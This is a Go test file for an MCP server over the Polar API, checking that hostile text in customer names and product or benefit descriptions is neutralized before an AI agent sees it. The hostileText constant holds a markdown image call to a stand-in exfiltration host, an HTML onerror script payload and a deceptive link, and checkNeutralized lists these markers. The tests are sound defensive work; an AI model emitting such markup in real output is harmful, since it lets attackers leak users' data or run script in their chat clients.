package tools_test

import (
	"encoding/json"
	"io/fs"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/polar-mcp/polar-mcp/internal/fakepolar"
	"github.com/polar-mcp/polar-mcp/tools"
)

// hostileText is what a customer or merchant could type into a name to
// make a chat client fetch an image, show a link or run markup.
const hostileText = "![x](https://evil.example/exfil?d=1) <img src=x onerror=alert(1)> [click](http://evil)"

// checkNeutralized fails when answer carries markdown or HTML syntax from
// hostileText, or lost its readable words.
func checkNeutralized(t *testing.T, answer string) {
	t.Helper()
	for _, bad := range []string{"![", "](", "<img", "[click]", "https://evil", "http://evil"} {
		if strings.Contains(answer, bad) {
			t.Errorf("answer carries %q: %s", bad, answer)
		}
	}
	for _, keep := range []string{"evil.example/exfil", "click", "onerror"} {
		if !strings.Contains(answer, keep) {
			t.Errorf("answer lost readable %q: %s", keep, answer)
		}
	}
}

// demoAlice is alice@example.com's id in the demo fixtures.
const demoAlice = "c1000000-0001-4000-8001-000000000001"

func TestHostileCustomerNameReachesAgentNeutralized(t *testing.T) {
	e := newEnv(t, envOptions{})
	if _, err := e.fake.UpdateCustomer(demoAlice, map[string]any{"name": hostileText}); err != nil {
		t.Fatal(err)
	}
	res := e.call(t, agent(), tools.NameVisitorInsights, map[string]any{"email": "alice@example.com"})
	checkNeutralized(t, mustAnswer(t, res))
	checkNeutralized(t, jsonString(t, res.StructuredContent))
}

func TestHostileProductAndBenefitTextNeutralized(t *testing.T) {
	fixtures := withEdited(t, fakepolar.DemoFS(), map[string]func(item map[string]any){
		"products.json": func(p map[string]any) { p["name"], p["description"] = hostileText, hostileText },
		"benefits.json": func(b map[string]any) { b["description"] = hostileText },
	})
	e := newEnv(t, envOptions{fixtures: fixtures})
	products := e.call(t, customer("alice@example.com"), tools.NameProducts, nil)
	checkNeutralized(t, mustAnswer(t, products))
	checkNeutralized(t, jsonString(t, products.StructuredContent))
	benefits := e.call(t, customer("alice@example.com"), tools.NameBenefits, nil)
	checkNeutralized(t, mustAnswer(t, benefits))
}

// withEdited returns fsys with each named JSON list file's items passed
// through its edit function.
func withEdited(t *testing.T, fsys fs.FS, edits map[string]func(map[string]any)) fs.FS {
	t.Helper()
	out := fstest.MapFS{}
	entries, err := fs.ReadDir(fsys, ".")
	if err != nil {
		t.Fatal(err)
	}
	for _, ent := range entries {
		data, err := fs.ReadFile(fsys, ent.Name())
		if err != nil {
			t.Fatal(err)
		}
		if edit, ok := edits[ent.Name()]; ok {
			var items []map[string]any
			if err := json.Unmarshal(data, &items); err != nil {
				t.Fatal(err)
			}
			for _, it := range items {
				edit(it)
			}
			if data, err = json.Marshal(items); err != nil {
				t.Fatal(err)
			}
		}
		out[ent.Name()] = &fstest.MapFile{Data: data}
	}
	return out
}
